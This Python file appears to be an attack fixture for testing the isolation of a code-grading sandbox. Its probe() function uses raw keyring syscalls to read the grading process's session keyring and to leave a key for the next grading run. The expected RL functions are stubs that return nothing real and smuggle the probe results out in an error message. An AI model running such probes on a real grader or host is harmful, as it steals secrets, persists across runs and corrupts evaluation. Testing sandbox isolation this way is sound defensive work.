"""Attack: use the kernel keyring, which is not namespaced: read the keys of the process that started
the grader (its session keyring) and leave a key for the next grading (the user keyring of the
worker's uid). Reports what worked; the test expects nothing."""
import ctypes
import errno
import platform

NUMBERS = {"x86_64": {"keyctl": 250, "add_key": 248, "request_key": 249},
           "aarch64": {"keyctl": 219, "add_key": 217, "request_key": 218}}
KEY_SPEC_SESSION_KEYRING, KEY_SPEC_USER_KEYRING = -3, -4
KEYCTL_GET_KEYRING_ID, KEYCTL_DESCRIBE, KEYCTL_READ, KEYCTL_JOIN_SESSION_KEYRING = 0, 6, 11, 1


def probe():
    libc = ctypes.CDLL(None, use_errno=True)
    nr = NUMBERS[platform.machine()]
    worked = []
    buffer = ctypes.create_string_buffer(4096)
    attempts = {
        "add_key to the user keyring": lambda: libc.syscall(nr["add_key"], b"user", b"left-for-the-next-grading",
                                                            b"secret", 6, KEY_SPEC_USER_KEYRING),
        "add_key to the session keyring": lambda: libc.syscall(nr["add_key"], b"user", b"mine", b"x", 1,
                                                               KEY_SPEC_SESSION_KEYRING),
        "read the session keyring": lambda: libc.syscall(nr["keyctl"], KEYCTL_READ, KEY_SPEC_SESSION_KEYRING,
                                                         buffer, 4096),
        "describe the session keyring": lambda: libc.syscall(nr["keyctl"], KEYCTL_DESCRIBE, KEY_SPEC_SESSION_KEYRING,
                                                             buffer, 4096),
        "join a named session keyring": lambda: libc.syscall(nr["keyctl"], KEYCTL_JOIN_SESSION_KEYRING, b"_ses"),
        "request_key": lambda: libc.syscall(nr["request_key"], b"user", b"left-for-the-next-grading", None, 0),
    }
    for name, attempt in attempts.items():
        result = attempt()
        if result >= 0 or ctypes.get_errno() not in (errno.EPERM, errno.ENOSYS):
            worked.append(name)
    return worked


def discounted_return(rewards, gamma):
    return 0.0


def reward_to_go(rewards, gamma):
    raise RuntimeError(f"keyring: {probe()}")  # the attack test reads this message


def normalize(values):
    return values
